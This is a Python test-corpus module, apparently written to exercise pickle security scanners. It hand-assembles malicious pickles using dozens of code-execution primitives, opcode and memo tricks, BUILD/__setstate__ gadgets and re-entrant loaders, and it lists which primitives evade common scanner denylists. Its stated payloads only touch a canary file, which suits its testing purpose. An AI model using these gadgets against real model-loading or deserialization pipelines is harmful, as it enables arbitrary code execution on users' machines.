"""Hand-assembled malicious pickles: execution primitives, opcode paths, memo/stack tricks, broken streams.

Every payload only creates the sample's canary file. Registration happens at import.
"""

from __future__ import annotations

import io
import marshal
import struct
import tarfile
import zipfile
from collections.abc import Callable
from typing import Any

from tests.corpus import asm
from tests.corpus.asm import Asm, Call, G, attr, call, method, program
from tests.corpus.model import Ctx, add

SYSTEM = G("os", "system")


def os_module() -> Call:
    """The ``os`` module object without importing by name: ``operator.itemgetter('os')(sys.modules)``."""
    return call(call(G("operator", "itemgetter"), "os"), G("sys", "modules"))


def inner_pickle(c: Ctx) -> bytes:
    """A complete malicious pickle to be loaded by a re-entrant loader."""
    return program(call(SYSTEM, c.cmd), 4)


def _zip_with(name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(name, data)
    return buf.getvalue()


def _tar_with(name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def npy_header(descr: str = "|O", shape: str = "(1,)") -> bytes:
    """A NumPy format-1.0 header (magic, version, length, dict padded to a multiple of 64 bytes)."""
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape}, }}".encode()
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header


def _inner_npy(c: Ctx) -> bytes:
    """An object-dtype .npy whose data section (a pickle) runs the payload."""
    return npy_header() + inner_pickle(c)


def _code_positional(src: str) -> tuple[Any, ...]:
    """Positional arguments of types.CodeType for compiled ``src`` (CPython 3.11 signature)."""
    co = compile(src, "<payload>", "exec")
    return (
        co.co_argcount, co.co_posonlyargcount, co.co_kwonlyargcount, co.co_nlocals, co.co_stacksize,
        co.co_flags, co.co_code, co.co_consts, co.co_names, co.co_varnames, co.co_filename, co.co_name,
        co.co_qualname, co.co_firstlineno, co.co_linetable, co.co_exceptiontable, co.co_freevars, co.co_cellvars,
    )  # fmt: skip


# --------------------------------------------------------------------------------------------- primitives
# name -> (expression builder, primitives, options)
Prim = Callable[[Ctx], Any]
PRIMITIVES: list[tuple[str, Prim, tuple[str, ...], dict[str, Any]]] = [
    ("os-system", lambda c: call(SYSTEM, c.cmd), ("os.system",), {}),
    ("posix-system", lambda c: call(G("posix", "system"), c.cmd), ("posix.system",), {}),
    ("subprocess-popen", lambda c: call(G("subprocess", "Popen"), c.argv), ("subprocess.Popen",), {}),
    ("subprocess-call", lambda c: call(G("subprocess", "call"), c.argv), ("subprocess.call",), {}),
    ("subprocess-run", lambda c: call(G("subprocess", "run"), c.argv), ("subprocess.run",), {}),
    ("subprocess-check-call", lambda c: call(G("subprocess", "check_call"), c.argv), ("subprocess.check_call",), {}),
    (
        "subprocess-check-output",
        lambda c: call(G("subprocess", "check_output"), c.argv),
        ("subprocess.check_output",),
        {},
    ),
    ("subprocess-getoutput", lambda c: call(G("subprocess", "getoutput"), c.cmd), ("subprocess.getoutput",), {}),
    (
        "subprocess-getstatusoutput",
        lambda c: call(G("subprocess", "getstatusoutput"), c.cmd),
        ("subprocess.getstatusoutput",),
        {},
    ),
    ("os-popen", lambda c: call(G("os", "popen"), c.cmd), ("os.popen",), {}),
    ("os-execv", lambda c: call(G("os", "execv"), c.touch, c.argv), ("os.execv",), {"isolate": True}),
    ("os-execvp", lambda c: call(G("os", "execvp"), "touch", c.argv), ("os.execvp",), {"isolate": True}),
    ("os-execl", lambda c: call(G("os", "execl"), c.touch, "touch", c.canary), ("os.execl",), {"isolate": True}),
    ("os-spawnv", lambda c: call(G("os", "spawnv"), 0, c.touch, c.argv), ("os.spawnv",), {}),
    ("os-spawnvp", lambda c: call(G("os", "spawnvp"), 0, "touch", c.argv), ("os.spawnvp",), {}),
    ("os-spawnlp", lambda c: call(G("os", "spawnlp"), 0, "touch", "touch", c.canary), ("os.spawnlp",), {}),
    ("os-posix-spawn", lambda c: call(G("os", "posix_spawn"), c.touch, c.argv, {}), ("os.posix_spawn",), {}),
    ("os-posix-spawnp", lambda c: call(G("os", "posix_spawnp"), "touch", c.argv, {}), ("os.posix_spawnp",), {}),
    ("pty-spawn", lambda c: call(G("pty", "spawn"), c.argv), ("pty.spawn",), {"isolate": True}),
    ("builtins-exec", lambda c: call(G("builtins", "exec"), c.pycode), ("builtins.exec",), {}),
    (
        "builtins-eval",
        lambda c: call(G("builtins", "eval"), f"__import__('os').system({c.cmd!r})"),
        ("builtins.eval",),
        {},
    ),
    (
        "builtins-compile-exec",
        lambda c: call(G("builtins", "exec"), call(G("builtins", "compile"), c.pycode, "<x>", "exec")),
        ("builtins.compile", "builtins.exec"),
        {},
    ),
    (
        "builtins-import-getattr",
        lambda c: call(attr(call(G("builtins", "__import__"), "os"), "system"), c.cmd),
        ("builtins.__import__", "builtins.getattr"),
        {},
    ),
    (
        "importlib-import-module",
        lambda c: call(attr(call(G("importlib", "import_module"), "os"), "system"), c.cmd),
        ("importlib.import_module", "builtins.getattr"),
        {},
    ),
    (
        "importlib-dunder-import",
        lambda c: call(attr(call(G("importlib", "__import__"), "os"), "system"), c.cmd),
        ("importlib.__import__", "builtins.getattr"),
        {},
    ),
    (
        "pkgutil-resolve-name",
        lambda c: call(call(G("pkgutil", "resolve_name"), "os:system"), c.cmd),
        ("pkgutil.resolve_name",),
        {"notes": "callable named by a string argument"},
    ),
    (
        "runpy-run-path",
        lambda c: call(G("runpy", "run_path"), c.aux("payload.py", c.pycode)),
        ("runpy.run_path",),
        {"notes": "runs a script shipped next to the model"},
    ),
    (
        "runpy-run-module",
        lambda c: (
            method(G("sys", "path"), "insert", 0, _aux_module(c)),
            call(G("runpy", "run_module"), f"shipped_{c.name.replace('-', '_')}"),
        ),
        ("sys.path.insert", "runpy.run_module"),
        {"isolate": True},
    ),
    (
        "imp-load-source",
        lambda c: call(G("imp", "load_source"), "shipped_imp", c.aux("payload.py", c.pycode)),
        ("imp.load_source",),
        {},
    ),
    (
        "importlib-sourcefileloader",
        lambda c: method(
            call(G("importlib.machinery", "SourceFileLoader"), "shipped_sfl", c.aux("payload.py", c.pycode)),
            "load_module",
        ),
        ("importlib.machinery.SourceFileLoader",),
        {},
    ),
    (
        "site-addsitedir",
        lambda c: call(G("site", "addsitedir"), _aux_pth(c)),
        ("site.addsitedir",),
        {"notes": ".pth import lines execute"},
    ),
    (
        "code-interactiveinterpreter",
        lambda c: method(call(G("code", "InteractiveInterpreter")), "runsource", c.pycode),
        ("code.InteractiveInterpreter.runsource",),
        {},
    ),
    (
        "code-interactiveconsole-push",
        lambda c: method(call(G("code", "InteractiveConsole")), "push", c.pycode),
        ("code.InteractiveConsole.push",),
        {},
    ),
    (
        "timeit-timeit",
        lambda c: call(G("timeit", "timeit"), c.pycode, "pass", G("time", "perf_counter"), 1),
        ("timeit.timeit",),
        {},
    ),
    ("timeit-timer", lambda c: method(call(G("timeit", "Timer"), c.pycode), "timeit", 1), ("timeit.Timer",), {}),
    ("cprofile-run", lambda c: call(G("cProfile", "run"), c.pycode), ("cProfile.run",), {}),
    ("profile-run", lambda c: call(G("profile", "run"), c.pycode), ("profile.run",), {}),
    (
        "pdb-run",
        lambda c: call(G("pdb", "run"), c.pycode),
        ("pdb.run",),
        {
            "fires": False,
            "loader": "none",
            "notes": "runs under an interactive debugger: executes once a user continues",
        },
    ),
    ("bdb-run", lambda c: method(call(G("bdb", "Bdb")), "run", c.pycode), ("bdb.Bdb.run",), {}),
    ("trace-run", lambda c: method(call(G("trace", "Trace"), 0, 0), "run", c.pycode), ("trace.Trace.run",), {}),
    (
        "doctest-run-docstring-examples",
        lambda c: call(G("doctest", "run_docstring_examples"), f">>> {c.pycode}\n", {}),
        ("doctest.run_docstring_examples",),
        {},
    ),
    (
        "doctest-debug-script",
        lambda c: call(G("doctest", "debug_script"), c.pycode),
        ("doctest.debug_script",),
        {"fires": False, "loader": "none", "notes": "interactive pdb; executes once a user continues"},
    ),
    ("pydoc-pipepager", lambda c: call(G("pydoc", "pipepager"), "x", c.cmd), ("pydoc.pipepager",), {}),
    ("pydoc-tempfilepager", lambda c: call(G("pydoc", "tempfilepager"), "x", c.cmd), ("pydoc.tempfilepager",), {}),
    (
        "webbrowser-open",
        lambda c: call(G("webbrowser", "open"), "file:///dev/null"),
        ("webbrowser.open",),
        {"fires": False, "loader": "none", "notes": "never executed: would open a browser"},
    ),
    (
        "uuid-get-command-stdout",
        lambda c: call(G("uuid", "_get_command_stdout"), "touch", c.canary),
        ("uuid._get_command_stdout",),
        {},
    ),
    (
        "imaplib-imap4-stream",
        lambda c: call(G("imaplib", "IMAP4_stream"), c.cmd),
        ("imaplib.IMAP4_stream",),
        {"notes": "spawns a shell command, then fails on the missing IMAP greeting"},
    ),
    (
        "logging-config-dictconfig",
        lambda c: call(
            G("logging.config", "dictConfig"), {"version": 1, "handlers": {"h": {"()": "os.system", "command": c.cmd}}}
        ),
        ("logging.config.dictConfig",),
        {"notes": "'()' factory string resolved to os.system"},
    ),
    (
        "ctypes-cdll-system",
        lambda c: call(attr(call(G("ctypes", "CDLL"), None), "system"), c.cmd.encode()),
        ("ctypes.CDLL",),
        {},
    ),
    (
        "marshal-functiontype",
        lambda c: call(
            call(
                G("types", "FunctionType"),
                call(G("marshal", "loads"), marshal.dumps(compile(c.pycode, "<x>", "exec"))),
                {},
            )
        ),
        ("marshal.loads", "types.FunctionType"),
        {"notes": "code object marshalled by CPython 3.11"},
    ),
    (
        "compile-functiontype",
        lambda c: call(call(G("types", "FunctionType"), call(G("builtins", "compile"), c.pycode, "<x>", "exec"), {})),
        ("builtins.compile", "types.FunctionType"),
        {},
    ),
    (
        "types-codetype",
        lambda c: call(call(G("types", "FunctionType"), call(G("types", "CodeType"), *_code_positional(c.pycode)), {})),
        ("types.CodeType", "types.FunctionType"),
        {"notes": "CPython 3.11 CodeType signature"},
    ),
    (
        "functools-partial",
        lambda c: call(call(G("functools", "partial"), SYSTEM, c.cmd)),
        ("functools.partial", "os.system"),
        {},
    ),
    (
        "functools-partial-chain",
        lambda c: call(call(G("functools", "partial"), call(G("functools", "partial"), SYSTEM), c.cmd)),
        ("functools.partial", "os.system"),
        {},
    ),
    (
        "operator-methodcaller",
        lambda c: call(call(G("operator", "methodcaller"), "system", c.cmd), os_module()),
        ("operator.methodcaller", "operator.itemgetter", "sys.modules"),
        {},
    ),
    (
        "operator-attrgetter",
        lambda c: call(call(call(G("operator", "attrgetter"), "system"), os_module()), c.cmd),
        ("operator.attrgetter", "operator.itemgetter", "sys.modules"),
        {},
    ),
    ("operator-call", lambda c: call(G("operator", "call"), SYSTEM, c.cmd), ("operator.call", "os.system"), {}),
    (
        "sys-modules-get",
        lambda c: call(attr(method(G("sys", "modules"), "get", "os"), "system"), c.cmd),
        ("sys.modules", "builtins.getattr"),
        {},
    ),
    (
        "getattr-builtins-module-import",
        lambda c: call(
            attr(
                call(
                    attr(call(call(G("operator", "itemgetter"), "builtins"), G("sys", "modules")), "__import__"), "os"
                ),
                "system",
            ),
            c.cmd,
        ),
        ("builtins.getattr", "sys.modules"),
        {"notes": "getattr(getattr(builtins, '__import__')('os'), 'system')"},
    ),
    (
        "map-list",
        lambda c: call(G("builtins", "list"), call(G("builtins", "map"), SYSTEM, [c.cmd])),
        ("builtins.map", "os.system"),
        {},
    ),
    (
        "itertools-starmap",
        lambda c: call(G("builtins", "list"), call(G("itertools", "starmap"), SYSTEM, [(c.cmd,)])),
        ("itertools.starmap", "os.system"),
        {},
    ),
    (
        "collections-deque-map",
        lambda c: call(G("collections", "deque"), call(G("builtins", "map"), G("builtins", "exec"), [c.pycode])),
        ("builtins.map", "builtins.exec"),
        {},
    ),
    (
        "asyncio-create-subprocess-shell",
        lambda c: call(G("asyncio", "run"), call(G("asyncio", "create_subprocess_shell"), c.cmd)),
        ("asyncio.create_subprocess_shell", "asyncio.run"),
        {},
    ),
    (
        "asyncio-create-subprocess-exec",
        lambda c: call(G("asyncio", "run"), call(G("asyncio", "create_subprocess_exec"), *c.argv)),
        ("asyncio.create_subprocess_exec", "asyncio.run"),
        {},
    ),
    (
        "multiprocessing-process",
        lambda c: method(
            call(G("multiprocessing", "Process"), None, G("builtins", "exec"), None, (c.pycode,)), "start"
        ),
        ("multiprocessing.Process", "builtins.exec"),
        {"isolate": True},
    ),
    (
        "threading-thread",
        lambda c: method(call(G("threading", "Thread"), None, G("builtins", "exec"), None, (c.pycode,)), "start"),
        ("threading.Thread", "builtins.exec"),
        {},
    ),
    (
        "concurrent-threadpool-submit",
        lambda c: method(
            call(G("concurrent.futures", "ThreadPoolExecutor")), "submit", G("builtins", "exec"), c.pycode
        ),
        ("concurrent.futures.ThreadPoolExecutor", "builtins.exec"),
        {},
    ),
    ("shutil-copyfile", lambda c: call(G("shutil", "copyfile"), "/dev/null", c.canary), ("shutil.copyfile",), {}),
    ("shutil-copy", lambda c: call(G("shutil", "copy"), "/dev/null", c.canary), ("shutil.copy",), {}),
    ("shutil-copy2", lambda c: call(G("shutil", "copy2"), "/dev/null", c.canary), ("shutil.copy2",), {}),
    (
        "shutil-unpack-archive",
        lambda c: call(
            G("shutil", "unpack_archive"), c.aux("drop.zip", _zip_with(f"canary-{c.name}", b"x")), str(c.canary_dir)
        ),
        ("shutil.unpack_archive",),
        {},
    ),
    (
        "zipfile-extractall",
        lambda c: method(
            call(G("zipfile", "ZipFile"), c.aux("drop.zip", _zip_with(f"canary-{c.name}", b"x"))),
            "extractall",
            str(c.canary_dir),
        ),
        ("zipfile.ZipFile.extractall",),
        {},
    ),
    (
        "tarfile-extractall",
        lambda c: method(
            call(G("tarfile", "open"), c.aux("drop.tar", _tar_with(f"canary-{c.name}", b"x"))),
            "extractall",
            str(c.canary_dir),
        ),
        ("tarfile.TarFile.extractall",),
        {},
    ),
    ("pathlib-touch", lambda c: method(call(G("pathlib", "Path"), c.canary), "touch"), ("pathlib.Path.touch",), {}),
    (
        "pathlib-write-text-dotted",
        lambda c: call(G("pathlib", "Path.write_text"), call(G("pathlib", "Path"), c.canary), "x"),
        ("pathlib.Path.write_text",),
        {"notes": "dotted attribute name, protocol 4"},
    ),
    ("builtins-open", lambda c: call(G("builtins", "open"), c.canary, "w"), ("builtins.open",), {}),
    ("io-open", lambda c: call(G("io", "open"), c.canary, "w"), ("io.open",), {}),
    ("_io-open", lambda c: call(G("_io", "open"), c.canary, "w"), ("_io.open",), {}),
    ("_io-fileio", lambda c: call(G("_io", "FileIO"), c.canary, "w"), ("_io.FileIO",), {}),
    ("codecs-open", lambda c: call(G("codecs", "open"), c.canary, "w"), ("codecs.open",), {}),
    ("os-open", lambda c: call(G("os", "open"), c.canary, 65), ("os.open",), {}),
    ("os-mkdir", lambda c: call(G("os", "mkdir"), c.canary), ("os.mkdir",), {}),
    ("os-makedirs", lambda c: call(G("os", "makedirs"), c.canary), ("os.makedirs",), {}),
    ("os-symlink", lambda c: call(G("os", "symlink"), "/dev/null", c.canary), ("os.symlink",), {}),
    ("logging-filehandler", lambda c: call(G("logging", "FileHandler"), c.canary), ("logging.FileHandler",), {}),
    ("zipfile-create", lambda c: call(G("zipfile", "ZipFile"), c.canary, "w"), ("zipfile.ZipFile",), {}),
    ("tarfile-create", lambda c: call(G("tarfile", "open"), c.canary, "w"), ("tarfile.open",), {}),
    ("sqlite3-connect", lambda c: call(G("sqlite3", "connect"), c.canary), ("sqlite3.connect",), {}),
    (
        "tempfile-mkstemp",
        lambda c: call(G("tempfile", "mkstemp"), "", f"canary-{c.name}.", str(c.canary_dir)),
        ("tempfile.mkstemp",),
        {},
    ),
    ("numpy-save", lambda c: call(G("numpy", "save"), c.canary, 0), ("numpy.save",), {}),
    ("numpy-savetxt", lambda c: call(G("numpy", "savetxt"), c.canary, [0]), ("numpy.savetxt",), {}),
    (
        "numpy-testing-runstring",
        lambda c: call(G("numpy.testing._private.utils", "runstring"), c.pycode, {}),
        ("numpy.testing._private.utils.runstring",),
        {},
    ),
    ("distutils-spawn", lambda c: call(G("distutils.spawn", "spawn"), c.argv), ("distutils.spawn.spawn",), {}),
    (
        "setuptools-distutils-spawn",
        lambda c: call(G("setuptools._distutils.spawn", "spawn"), c.argv),
        ("setuptools._distutils.spawn.spawn",),
        {},
    ),
    (
        "copyreg-reconstructor-popen",
        lambda c: call(G("copyreg", "_reconstructor"), G("subprocess", "Popen"), G("subprocess", "Popen"), c.argv),
        ("copyreg._reconstructor", "subprocess.Popen"),
        {"notes": "base.__init__(obj, state) runs Popen.__init__"},
    ),
    ("pickle-loads-reentry", lambda c: call(G("pickle", "loads"), inner_pickle(c)), ("pickle.loads",), {}),
    ("_pickle-loads-reentry", lambda c: call(G("_pickle", "loads"), inner_pickle(c)), ("_pickle.loads",), {}),
    ("pickle-pure-loads-reentry", lambda c: call(G("pickle", "_loads"), inner_pickle(c)), ("pickle._loads",), {}),
    (
        "pickle-unpickler-reentry",
        lambda c: method(call(G("pickle", "Unpickler"), call(G("io", "BytesIO"), inner_pickle(c))), "load"),
        ("pickle.Unpickler",),
        {},
    ),
    ("dill-loads-reentry", lambda c: call(G("dill", "loads"), inner_pickle(c)), ("dill.loads",), {}),
    (
        "joblib-load-reentry",
        lambda c: call(G("joblib", "load"), call(G("io", "BytesIO"), inner_pickle(c))),
        ("joblib.load",),
        {},
    ),
    (
        "numpy-load-reentry",
        lambda c: call(G("numpy", "load"), call(G("io", "BytesIO"), _inner_npy(c)), None, True),
        ("numpy.load",),
        {"notes": "allow_pickle passed positionally"},
    ),
    (
        "torch-load-reentry",
        lambda c: call(
            G("torch", "load"),
            call(G("io", "BytesIO"), inner_pickle(c)),
            None,
            call(call(G("operator", "itemgetter"), "pickle"), G("sys", "modules")),
        ),
        ("torch.load",),
        {"notes": "pickle_module given positionally, so weights_only defaults to False"},
    ),
    (
        "pandas-read-pickle-reentry",
        lambda c: call(G("pandas", "read_pickle"), c.aux("inner.pkl", inner_pickle(c))),
        ("pandas.read_pickle",),
        {},
    ),
    (
        "pip-main",
        lambda c: call(G("pip", "main"), ["install", "--no-index", "--find-links", c.aux_dir(), "shipped-pkg"]),
        ("pip.main",),
        {"fires": False, "loader": "none", "notes": "would install (and run the setup of) a package; not executed"},
    ),
    (
        "socket-connect-closed-port",
        lambda c: call(G("socket", "create_connection"), ("127.0.0.1", 9)),
        ("socket.create_connection",),
        {"fires": False, "loader": "none", "notes": "network reach to 127.0.0.1:9 (closed); nothing to prove on disk"},
    ),
]


def _aux_module(c: Ctx) -> str:
    c.aux(f"shipped_{c.name.replace('-', '_')}.py", c.pycode)
    return c.aux_dir()


def _aux_pth(c: Ctx) -> str:
    c.aux("evil.pth", f"import os; os.system({c.cmd!r})\n")
    return c.aux_dir()


#: primitives found on the usual scanner denylists; every other primitive is a denylist gap (tests/bypasses/)
CLASSIC = {
    "os-system", "posix-system", "subprocess-popen", "subprocess-call", "subprocess-run", "subprocess-check-call",
    "subprocess-check-output", "subprocess-getoutput", "subprocess-getstatusoutput", "os-popen", "os-execv",
    "os-execvp", "os-execl", "os-spawnv", "os-spawnvp", "os-spawnlp", "builtins-exec", "builtins-eval",
    "builtins-compile-exec", "builtins-import-getattr", "builtins-open", "socket-connect-closed-port",
    "webbrowser-open",
}  # fmt: skip


def _register_primitives() -> None:
    for name, expr, prims, opts in PRIMITIVES:
        opts = dict(opts)
        if "reentry" in name:
            opts.setdefault("bypass", "reentry")
        elif name not in CLASSIC:
            opts.setdefault("bypass", "denylist-gaps")
        add(
            f"prim-{name}",
            "primitive",
            (lambda e: lambda c: program(e(c), 4, frame=True))(expr),
            primitives=prims,
            **opts,
        )


_register_primitives()


# --------------------------------------------------------------------------------------------- opcode paths
def _reduce_p(proto: int, **kw: Any) -> Callable[[Ctx], bytes]:
    return lambda c: program(call(SYSTEM, c.cmd), proto, frame=proto >= 4, **kw)


for _p in range(6):
    add(
        f"op-global-reduce-p{_p}",
        "opcode-path",
        _reduce_p(_p, stack_global=False),
        notes=f"GLOBAL + REDUCE, protocol {_p}",
    )
for _p in (2, 3, 4, 5):
    add(
        f"op-stack-global-reduce-p{_p}",
        "opcode-path",
        _reduce_p(_p, stack_global=True),
        notes=f"STACK_GLOBAL + REDUCE under a protocol-{_p} header",
    )
add(
    "op-stack-global-no-proto",
    "opcode-path",
    lambda c: (
        Asm(0).str("os").str("system").op(asm.STACK_GLOBAL).str(c.cmd).op(asm.TUPLE1, asm.REDUCE, asm.STOP).build()
    ),
    notes="protocol-4 opcodes without any PROTO header",
)
add(
    "op-unframed-p5",
    "opcode-path",
    lambda c: program(call(SYSTEM, c.cmd), 5, frame=False),
    notes="protocol 5 without FRAME",
)
add(
    "op-multi-frame-p5", "opcode-path", lambda c: program(call(SYSTEM, c.cmd), 5, frame=4), notes="one FRAME per opcode"
)


def _stack(c: Ctx, body: Callable[[Asm], None], proto: int = 4) -> bytes:
    a = Asm(proto).header()
    body(a)
    a.str(c.cmd).op(asm.TUPLE1, asm.REDUCE, asm.STOP)
    return a.build()


add(
    "op-stack-global-memo-binget",
    "memo",
    lambda c: _stack(
        c, lambda a: a.str("os").put(0).str("system").put(1).op(asm.POP, asm.POP).get(0).get(1).op(asm.STACK_GLOBAL)
    ),
    notes="strings via BINPUT/BINGET",
)
add(
    "op-stack-global-long-binget",
    "memo",
    lambda c: _stack(
        c,
        lambda a: (
            a.str("os")
            .put(70000)
            .str("system")
            .put(4000000)
            .op(asm.POP, asm.POP)
            .get(70000)
            .get(4000000)
            .op(asm.STACK_GLOBAL)
        ),
    ),
    notes="strings via LONG_BINPUT/LONG_BINGET, sparse indices",
)
add(
    "op-stack-global-memoize",
    "memo",
    lambda c: _stack(
        c,
        lambda a: (
            a.str("os")
            .op(asm.MEMOIZE)
            .str("system")
            .op(asm.MEMOIZE, asm.POP, asm.POP)
            .get(0)
            .get(1)
            .op(asm.STACK_GLOBAL)
        ),
    ),
    notes="strings via MEMOIZE",
)
add(
    "op-stack-global-shuffled",
    "memo",
    lambda c: _stack(c, lambda a: a.str("system").put(5).op(asm.POP).str("os").get(5).op(asm.STACK_GLOBAL)),
    notes="name pushed first, parked in memo",
)
add(
    "op-stack-global-mark-confusion",
    "memo",
    lambda c: _stack(
        c,
        lambda a: (
            a.str("os").op(asm.MARK).str("builtins").str("print").op(asm.POP_MARK).str("system").op(asm.STACK_GLOBAL)
        ),
    ),
    notes="decoy strings discarded by POP_MARK",
)
add(
    "op-stack-global-dup-pop",
    "memo",
    lambda c: _stack(
        c, lambda a: a.str("os").str("builtins").op(asm.POP).str("system").op(asm.DUP, asm.POP, asm.STACK_GLOBAL)
    ),
    notes="decoy string popped",
)
add(
    "op-memo-index-reuse",
    "memo",
    lambda c: _stack(
        c,
        lambda a: (
            a.str("builtins").put(0).op(asm.POP).str("os").put(0).op(asm.POP).get(0).str("system").op(asm.STACK_GLOBAL)
        ),
    ),
    bypass="memo-confusion",
    notes="memo slot 0 overwritten: first PUT says builtins, the GET reads os",
)
add(
    "op-memo-callable-overwrite",
    "memo",
    lambda c: _stack(
        c, lambda a: a.global_("builtins", "print").put(1).op(asm.POP).global_("os", "system").put(1).op(asm.POP).get(1)
    ),
    bypass="memo-confusion",
    notes="memo slot holding a benign callable is overwritten by os.system before the GET",
)
add(
    "op-stack-global-computed-rot13",
    "memo",
    lambda c: _stack(
        c,
        lambda a: (
            a.emit(call(G("codecs", "decode"), "bf", "rot13"))
            .emit(call(G("codecs", "decode"), "flfgrz", "rot13"))
            .op(asm.STACK_GLOBAL)
        ),
    ),
    primitives=("os.system", "codecs.decode"),
    notes="module and name computed at load time",
)
add(
    "op-stack-global-computed-join",
    "memo",
    lambda c: _stack(
        c,
        lambda a: a.emit(method("", "join", ["o", "s"])).emit(method("", "join", ["sys", "tem"])).op(asm.STACK_GLOBAL),
    ),
    primitives=("os.system", "str.join"),
    notes="strings joined at load time",
)
add(
    "op-stack-global-binunicode8",
    "opcode-path",
    lambda c: _stack(
        c,
        lambda a: a.op(
            asm.BINUNICODE8,
            struct.pack("<Q", 2),
            b"os",
            asm.BINUNICODE8,
            struct.pack("<Q", 6),
            b"system",
            asm.STACK_GLOBAL,
        ),
    ),
    notes="BINUNICODE8 strings",
)
add(
    "op-stack-global-binunicode",
    "opcode-path",
    lambda c: _stack(
        c,
        lambda a: a.op(
            asm.BINUNICODE,
            struct.pack("<I", 2),
            b"os",
            asm.BINUNICODE,
            struct.pack("<I", 6),
            b"system",
            asm.STACK_GLOBAL,
        ),
    ),
    notes="BINUNICODE strings",
)
add(
    "op-stack-global-text-unicode",
    "opcode-path",
    lambda c: _stack(c, lambda a: a.op(asm.UNICODE, b"os\n", asm.UNICODE, b"system\n", asm.STACK_GLOBAL)),
    notes="protocol-0 UNICODE strings feeding STACK_GLOBAL",
)
add(
    "op-inst-p0",
    "opcode-path",
    lambda c: Asm(0).op(asm.MARK).str(c.cmd).op(asm.INST, b"os\nsystem\n", asm.STOP).build(),
    notes="INST calls any callable with the marked args",
)
add(
    "op-inst-p2",
    "opcode-path",
    lambda c: Asm(2).header().op(asm.MARK).str(c.cmd).op(asm.INST, b"subprocess\ngetoutput\n", asm.STOP).build(),
    primitives=("subprocess.getoutput",),
)
add(
    "op-obj-p1",
    "opcode-path",
    lambda c: Asm(1).op(asm.MARK).global_("os", "system").str(c.cmd).op(asm.OBJ, asm.STOP).build(),
    notes="OBJ calls any callable",
)
add(
    "op-obj-p4-stack-global",
    "opcode-path",
    lambda c: (
        Asm(4).header().op(asm.MARK).stack_global_("os", "system").str(c.cmd).op(asm.OBJ, asm.STOP).build(frame=True)
    ),
)
add(
    "op-newobj-map-tuple",
    "opcode-path",
    lambda c: (
        Asm(2)
        .header()
        .global_("builtins", "tuple")
        .global_("builtins", "map")
        .emit(SYSTEM)
        .emit([c.cmd])
        .op(asm.TUPLE2, asm.NEWOBJ, asm.TUPLE1, asm.NEWOBJ, asm.STOP)
        .build()
    ),
    primitives=("builtins.map", "builtins.tuple", "os.system"),
    notes="no REDUCE: tuple.__new__ consumes a map over os.system",
)
add(
    "op-newobj-ex-map-tuple",
    "opcode-path",
    lambda c: (
        Asm(4)
        .header()
        .emit(G("builtins", "tuple"))
        .emit(G("builtins", "map"))
        .emit(SYSTEM)
        .emit([c.cmd])
        .op(asm.TUPLE2, asm.EMPTY_DICT, asm.NEWOBJ_EX, asm.TUPLE1, asm.EMPTY_DICT, asm.NEWOBJ_EX, asm.STOP)
        .build(frame=True)
    ),
    primitives=("builtins.map", "builtins.tuple", "os.system"),
    notes="no REDUCE: NEWOBJ_EX only",
)
add(
    "op-newobj-frozenset-map",
    "opcode-path",
    lambda c: (
        Asm(4)
        .header()
        .emit(G("builtins", "frozenset"))
        .emit(G("builtins", "map"))
        .emit(G("builtins", "exec"))
        .emit([c.pycode])
        .op(asm.TUPLE2, asm.NEWOBJ, asm.TUPLE1, asm.NEWOBJ, asm.STOP)
        .build()
    ),
    primitives=("builtins.map", "builtins.exec"),
)


def _build_instance_gadget(c: Ctx, cls: G, proto: int = 2) -> bytes:
    a = Asm(proto).header().emit(cls).op(asm.EMPTY_TUPLE, asm.NEWOBJ)
    a.emit({"__setstate__": SYSTEM}).op(asm.BUILD)
    a.str(c.cmd).op(asm.BUILD, asm.STOP)
    return a.build()


add(
    "op-build-setstate-ordereddict",
    "build-gadget",
    lambda c: _build_instance_gadget(c, G("collections", "OrderedDict")),
    bypass="build-gadget",
    notes="BUILD puts __setstate__=os.system in the instance dict, a second BUILD calls it; no REDUCE",
)
add(
    "op-build-setstate-namespace",
    "build-gadget",
    lambda c: _build_instance_gadget(c, G("argparse", "Namespace"), 4),
    bypass="build-gadget",
)


def _build_class_gadget(c: Ctx) -> bytes:
    a = Asm(2).header().global_("collections", "Counter")
    a.op(asm.NONE).emit({"__setstate__": SYSTEM}).op(asm.TUPLE2, asm.BUILD, asm.POP)  # setattr on the class
    a.global_("collections", "Counter").op(asm.EMPTY_TUPLE, asm.NEWOBJ).str(c.cmd).op(asm.BUILD, asm.STOP)
    return a.build()


add(
    "op-build-class-setattr",
    "build-gadget",
    _build_class_gadget,
    isolate=True,
    bypass="build-gadget",
    notes="BUILD slot-state on a class sets Counter.__setstate__ = os.system; BUILD on an instance calls it",
)


def _ext(code: int, opcode: bytes, fmt: str) -> Callable[[Ctx], bytes]:
    return lambda c: (
        Asm(2).header().op(opcode, struct.pack(fmt, code)).str(c.cmd).op(asm.TUPLE1, asm.REDUCE, asm.STOP).build()
    )


for _code, _op, _fmt, _n, _mod, _fn in (
    (0xF1, asm.EXT1, "<B", 1, "os", "system"),
    (0xF1F1, asm.EXT2, "<H", 2, "posix", "system"),
    (0xF1F1F1, asm.EXT4, "<i", 4, "subprocess", "getoutput"),
):
    _reg = f"copyreg.add_extension({_mod!r}, {_fn!r}, {_code:#x})"
    add(
        f"op-ext{_n}",
        "opcode-path",
        _ext(_code, _op, _fmt),
        setup=f"import copyreg\n{_reg}",
        primitives=(f"{_mod}.{_fn}",),
        bypass="ext-codes",
        notes=f"EXT{_n} code {_code:#x}: the loader must first run {_reg}",
    )


add(
    "op-persid-p0-after-payload",
    "opcode-path",
    lambda c: Asm(0).emit(call(SYSTEM, c.cmd)).op(asm.POP, asm.PERSID, b"storage\n", asm.STOP).build(),
    notes="PERSID without persistent_load errors only after the payload ran",
)
add(
    "op-binpersid-reduce-in-pid",
    "opcode-path",
    lambda c: (
        Asm(2)
        .header()
        .op(asm.MARK)
        .str("storage")
        .emit(call(SYSTEM, c.cmd))
        .op(asm.TUPLE, asm.BINPERSID, asm.STOP)
        .build()
    ),
    notes="the persistent id tuple is built by a call before persistent_load sees it",
)
add(
    "op-next-buffer-p5",
